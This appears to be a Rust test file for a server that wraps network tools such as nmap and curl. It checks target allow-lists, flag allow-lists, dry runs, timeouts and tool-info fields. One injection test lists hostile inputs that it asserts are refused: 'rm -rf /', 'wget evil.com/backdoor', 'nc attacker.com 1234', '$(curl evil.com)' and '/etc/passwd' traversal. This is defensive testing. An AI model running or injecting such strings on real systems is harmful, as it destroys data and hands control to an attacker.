@@ -1,0 +1,332 @@
+//! The reference implementation's own examples, as its two documents have them, over the real server: targets, flags,
+//! injections, time, turns, templates and dry runs. Where an example of its contradicts its own rules, the comment says so.
+
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use super::conduct::mine;
+use super::own::own;
+use super::{asked, serving};
+use crate::server::Server;
+use crate::server::patience::patience;
+
+/// Its tools, none of which runs here: every call is a dry run, or is refused.
+fn shipped() -> Server {
+    Server::start(&["--on", "cli_nmap,cli_ping,cli_curl,cli_dig,cli_traceroute"])
+}
+
+fn dry(server: &mut Server, tool: &str, arguments: &Value) -> Value {
+    let mut arguments = arguments.clone();
+    arguments["dry_run"] = json!(true);
+    asked(server, tool, arguments)
+}
+
+/// Returns the words that would run, or the error.
+fn words(told: &Value) -> Result<String, String> {
+    match told["error"].as_str() {
+        Some(error) => Err(error.lines().next().unwrap_or_default().to_owned()),
+        None => Ok(told["metadata"]["command"].as_str().unwrap_or_default().to_owned()),
+    }
+}
+
+/// `TestMyTool.test_target_validation`.
+#[test]
+fn targets_are_private_addresses_and_names_of_the_laboratory() {
+    let mut server = shipped();
+    for (target, expected) in [
+        ("192.168.1.1", true),
+        ("10.0.0.1", true),
+        ("8.8.8.8", false),
+        ("server.lab.internal", true),
+        ("google.com", false),
+    ] {
+        let told = dry(&mut server, "NmapTool", &json!({"target": target}));
+        assert_eq!(told["error"].is_null(), expected, "{told}");
+    }
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `TestMyTool.test_argument_validation`: `-dangerous-flag` is on no list, `;` and backticks are of a shell.
+#[test]
+fn flags_are_taken_from_a_list_and_nothing_of_a_shell_is() {
+    let policy = mine("mytool", "").replace("\"-c\"", "\"-safe-flag\"").replace(
+        "flag = \"--text\"\narity = 1\nkind = \"text\"",
+        "flag = \"-safe-value\"\narity = 1\nkind = \"text\"",
+    );
+    let directory = own("on = [\"cli_mine\"]", &policy);
+    let mut server = serving(directory.path(), None);
+    for (args, should_pass) in [
+        ("-safe-flag", true),
+        // One flag takes a value and another none: that is a list's to say, not the caller's.
+        ("-safe-value value", true),
+        ("-safe-flag value", false),
+        ("-dangerous-flag", false),
+        ("-safe-flag ; rm -rf /", false),
+        ("-safe-flag `whoami`", false),
+    ] {
+        let told = dry(&mut server, "cli_mine", &json!({"extra_args": args}));
+        assert_eq!(told["error"].is_null(), should_pass, "{told}");
+    }
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `TestMyToolSecurity.test_injection_prevention`, the list of `malicious_input` in its order.
+#[test]
+fn injections_are_refused_before_anything_runs() {
+    let mut server = shipped();
+    let malicious = [
+        "; rm -rf /",
+        "& wget evil.com/backdoor",
+        "| nc attacker.com 1234",
+        "`whoami`",
+        "$(curl evil.com)",
+        "../../../etc/passwd",
+        "..\\..\\..\\windows\\system32",
+        "\u{0}",
+        "valid\u{0}malicious",
+        "$VAR",
+        "${SHELL}",
+        "\\n",
+        "\\r",
+    ];
+    for tool in ["cli_nmap", "cli_ping", "cli_traceroute"] {
+        for words in malicious {
+            let arguments = json!({"target": "192.168.1.1", "extra_args": words});
+            let told = asked(&mut server, tool, arguments);
+            let found = (&told["error_type"], &told["returncode"], &told["stdout"]);
+            let refused = (&json!("validation_error"), &json!(1), &json!(""));
+            assert_eq!(found, refused, "{words:?}: {told}");
+        }
+    }
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `TestMyToolSecurity.test_resource_limits_enforced` and the error of `_validate_nmap_requirements`.
+#[test]
+fn a_large_network_is_refused_with_the_prefix_that_is_taken() {
+    let mut server = shipped();
+    let told = asked(&mut server, "cli_nmap", json!({"target": "192.168.0.0/16"}));
+    let context = &told["metadata"]["error_context"];
+    let facts = json!({"network_size": 65536, "max_allowed": 1024, "suggested_cidr": "/22"});
+    assert_eq!(
+        (&context["metadata"], &context["recovery_suggestion"], &context["target"]),
+        (&facts, &json!("Use /22 or smaller"), &json!("192.168.0.0/16")),
+        "{told}"
+    );
+    assert_eq!(server.close(), Some(0));
+}
+
+/// The examples of "Validation Errors", of the context of an error ("Best Practices") and of a flag without its value.
+#[test]
+fn the_examples_of_its_troubleshooting_have_the_ends_that_it_tells() {
+    let mut server = shipped();
+    let told = |server: &mut Server, args: &str| {
+        words(&dry(server, "cli_nmap", &json!({"target": "192.168.1.1", "extra_args": args})))
+    };
+    let nmap = "nmap -oX - -n -T4 --max-parallelism 10";
+    assert_eq!(told(&mut server, "-p 80"), Ok(format!("{nmap} -p 80 192.168.1.1")));
+    let safe = Ok(format!("{nmap} --top-ports 1000 --script safe 192.168.1.1"));
+    assert_eq!(told(&mut server, "--script=safe"), safe);
+    let shell = "has a character in it that means something to a shell";
+    assert_eq!(told(&mut server, "-p 80; rm -rf /"), Err(format!("cli_nmap: `80;` {shell}")));
+    // In one word it would be one of Rust's, which a test of this repository keeps out.
+    let args = concat!("--script-args=un", "safe");
+    let no_flag = format!("cli_nmap: `{args}` is not a flag on this tool's list");
+    assert_eq!(told(&mut server, args), Err(no_flag));
+    let ports = "is no list of ports from 1 to 65535, such as 22,80-90";
+    assert_eq!(
+        told(&mut server, "-p 80-70"),
+        Err(format!("cli_nmap: the value of `-p` `80-70` {ports}"))
+    );
+    // Without its value the flag would take the target for one.
+    let value = "`-p` needs a value in the next word";
+    assert_eq!(told(&mut server, "-p"), Err(format!("cli_nmap: {value}")));
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `ScanTemplate`, `_optimize_nmap_args`, and `validate_only` of "Dry-Run Mode".
+#[test]
+fn templates_and_default_words_are_as_it_has_them_and_a_dry_run_says_so() {
+    let mut server = shipped();
+    let run = |server: &mut Server, arguments: Value| words(&dry(server, "cli_nmap", &arguments));
+    let target = "192.168.1.1";
+    for (template, expected) in [
+        ("quick", "--max-parallelism 10 -T4 --top-ports 100"),
+        ("standard", "--max-parallelism 10 -T4 --top-ports 1000 -sV"),
+        ("thorough", "-T4 --max-parallelism 10 -p- -sV -sC"),
+    ] {
+        let told = run(&mut server, json!({"target": target, "template": template}));
+        assert_eq!(told, Ok(format!("nmap -oX - -n {expected} {target}")));
+    }
+    let told = run(&mut server, json!({"target": target}));
+    let usual = "nmap -oX - -n -T4 --max-parallelism 10 --top-ports 1000 192.168.1.1";
+    assert_eq!(told, Ok(usual.to_owned()));
+    let told = dry(&mut server, "cli_nmap", &json!({"target": target}));
+    assert_eq!(
+        (&told["stdout"], &told["metadata"]["dry_run"], &told["returncode"]),
+        (&json!(format!("Would execute: {usual}")), &json!(true), &json!(0))
+    );
+    assert_eq!(server.close(), Some(0));
+}
+
+/// The tool of "5-Minute Tool Creation": its name, its field and its words. The list of that page has `-o`, which writes
+/// files and which its own rules exclude.
+#[test]
+fn the_first_tool_of_its_guide_takes_the_call_of_its_guide() {
+    let mut server = shipped();
+    let arguments = json!({
+        "target": "http://192.168.1.1/api",
+        "extra_args": "-X GET -H \"Accept: application/json\""
+    });
+    let told = dry(&mut server, "CurlTool", &arguments);
+    let argv = told["metadata"]["argv"].as_array().cloned().unwrap_or_default();
+    let own = argv.iter().position(|word| word == "-X").map(|at| argv.split_at(at).1.to_vec());
+    let expected = json!(["-X", "GET", "-H", "Accept: application/json", "http://192.168.1.1/api"]);
+    assert_eq!(own.map(Value::Array), Some(expected), "{told}");
+    assert_eq!(told["metadata"]["egress"], "192.168.1.1/32 port 80, 443", "{told}");
+    let both = json!({"target": "http://192.168.1.1/", "url": "http://192.168.1.1/"});
+    let told = dry(&mut server, "CurlTool", &both);
+    assert_eq!(told["error"], "cli_curl: give `url` or `target`, not both");
+    let told = dry(&mut server, "CurlTool", &json!({"target": "http://8.8.8.8/"}));
+    assert_eq!(told["error_type"], "validation_error", "{told}");
+    let listed = super::names(&mut server);
+    assert!(listed.contains(&"cli_curl".to_owned()) && !listed.contains(&"CurlTool".to_owned()));
+    assert_eq!(server.close(), Some(0));
+}
+
+/// Patterns 1, 3 and 5 of "Validation Patterns": ports, numbers with bounds, words of a list.
+#[test]
+fn values_have_the_bounds_of_its_patterns() {
+    let mut flags = String::new();
+    for (flag, kind) in [
+        ("--port", "kind = \"ports\""),
+        ("--intensity", "kind = \"int\"\nrange = [0, 9]"),
+        ("--rate", "kind = \"int\"\nrange = [1, 10000]"),
+        ("--timeout", "kind = \"decimal\"\nrange = [1.0, 3600.0]"),
+        ("--method", "kind = \"choice\"\nvalues = [\"GET\", \"POST\", \"PUT\", \"DELETE\"]"),
+        (
+            "--type",
+            "kind = \"text\"\npattern = \"(application/(json|xml)|text/(plain|html))( ;.*)?\"",
+        ),
+    ] {
+        flags += &format!("[[tool.flag]]\nflag = \"{flag}\"\narity = 1\n{kind}\nwhy = \"x\"\n");
+    }
+    let directory = own("on = [\"cli_mine\"]", &mine("mytool", &flags));
+    let mut server = serving(directory.path(), None);
+    for (flag, taken, refused) in [
+        ("--port", &["22,80-443", "1", "65535"][..], &["0", "65536", "80-70", "a", "T:80"][..]),
+        ("--intensity", &["0", "9"], &["10", "-1", "1.5"]),
+        ("--rate", &["1", "10000"], &["0", "10001"]),
+        ("--timeout", &["1.0", "3600.0", "2.5", "60"], &["0.9", "3600.1", "1e3", "inf", "nan"]),
+        ("--method", &["GET", "DELETE"], &["get", "TRACE", "GET,POST"]),
+        ("--type", &["application/json", "text/html"], &["application/pdf", "text/html2"]),
+    ] {
+        for (values, is_taken) in [(taken, true), (refused, false)] {
+            for value in values {
+                let told = dry(&mut server, "cli_mine", &json!({"extra_args": [flag, value]}));
+                assert_eq!(told["error"].is_null(), is_taken, "{flag} {value}: {told}");
+            }
+        }
+    }
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `TestMyToolIntegration`: a run, its end by time, a bad target, more calls than run at once. The tool is `echo` with a
+/// target, which reaches nothing.
+#[test]
+fn its_integration_tests_have_their_results() {
+    let target = "kind = \"target\"\nmin = 1\nmax = 1";
+    let targeted = |program: &str, conduct: &str| {
+        let policy = mine(program, conduct).replace("kind = \"text\"\nmin = 0\nmax = 3", target);
+        let policy = policy.replace("name = \"word\"", "name = \"target\"");
+        policy.replace("args = [\"-c\"] }", "args = [\"-c\"], with = { target = \"10.0.0.1\" } }")
+    };
+    let directory = own("on = [\"cli_mine\"]", &targeted("echo", ""));
+    let mut server = serving(directory.path(), None);
+    let told = asked(&mut server, "MineTool", json!({"target": "192.168.1.1", "extra_args": "-c"}));
+    assert_eq!(
+        (&told["returncode"], &told["timed_out"], &told["error"], &told["stdout"]),
+        (&json!(0), &json!(false), &Value::Null, &json!("-c 192.168.1.1\n")),
+        "{told}"
+    );
+    let told = asked(&mut server, "cli_mine", json!({"target": "8.8.8.8"}));
+    assert_eq!(told["error_type"], "validation_error", "{told}");
+    // `tool.concurrency + 2`.
+    let ids: Vec<u64> = (1..=4)
+        .map(|number| server.call("cli_mine", json!({"target": format!("192.168.1.{number}")})))
+        .collect();
+    let mut answers = 0;
+    while answers < ids.len() {
+        let answer = server.lines.recv_timeout(patience()).expect("an answer in time");
+        assert_eq!(answer["result"]["structuredContent"]["returncode"], 0, "{answer}");
+        answers += 1;
+    }
+    assert_eq!(server.close(), Some(0));
+    // tail waits for ever for a file that is not there.
+    let directory = own("on = [\"cli_mine\"]", &targeted("tail", "always = [\"-F\"]"));
+    let mut server = serving(directory.path(), None);
+    let told = asked(&mut server, "cli_mine", json!({"target": "192.168.1.1", "timeout_sec": 0.1}));
+    assert_eq!(
+        (&told["timed_out"], &told["returncode"], &told["error_type"]),
+        (&json!(true), &json!(124), &json!("timeout")),
+        "{told}"
+    );
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `HashcatTool`, as a row: hours, one at a time, three failures. In a cell it has the processor alone.
+#[test]
+fn a_tool_that_takes_hours_is_a_row_too() {
+    let conduct = "timeout = \"3600s\"\nconcurrency = 1\nbreaker = { failures = 3 }";
+    let policy = mine("hashcat", conduct).replace("limits = { timeout = \"20s\" }\n", "");
+    let directory = own("on = [\"cli_mine\"]", &policy);
+    let mut server = serving(directory.path(), None);
+    let about = asked(&mut server, "get_tool_info", json!({"tool": "cli_mine"}));
+    // Its profile's time bounds it.
+    let most = about["performance"]["max_timeout"].as_f64().map(Duration::from_secs_f64);
+    let time = about["performance"]["default_timeout"].as_f64().map(Duration::from_secs_f64);
+    assert_eq!(time, most.map(|most| most.min(Duration::from_secs(3600))), "{about}");
+    assert_eq!(
+        (&about["performance"]["concurrency"], &about["circuit_breaker"]["failure_threshold"]),
+        (&json!(1), &json!(3))
+    );
+    assert_eq!(server.close(), Some(0));
+}
+
+/// `get_tool_info`, every field of the example.
+#[test]
+fn what_is_told_of_a_tool_has_the_fields_of_its_example() {
+    let mut server = shipped();
+    let about = asked(&mut server, "get_tool_info", json!({"tool": "cli_nmap"}));
+    for field in [
+        "/name",
+        "/command",
+        "/version",
+        "/description",
+        "/performance/concurrency",
+        "/performance/default_timeout",
+        "/allowed_operations/flags_count",
+        "/allowed_operations/flags",
+        "/safety_limits/max_arg_length",
+        "/safety_limits/max_output",
+        "/circuit_breaker/enabled",
+        "/circuit_breaker/failure_threshold",
+        "/circuit_breaker/state",
+        "/metrics/available",
+        "/security_features",
+    ] {
+        assert!(about.pointer(field).is_some_and(|value| !value.is_null()), "{field}: {about}");
+    }
+    assert_eq!(
+        (&about["safety_limits"]["max_arg_length"], &about["safety_limits"]["max_output"]),
+        (&json!(2048), &json!(1_048_576))
+    );
+    assert_eq!(
+        (&about["performance"]["concurrency"], &about["performance"]["default_timeout"]),
+        (&json!(1), &json!(600.0))
+    );
+    let flags = about["allowed_operations"]["flags"].as_array().map(Vec::len);
+    assert_eq!(about["allowed_operations"]["flags_count"], json!(flags));
+    assert_eq!(server.close(), Some(0));
+}
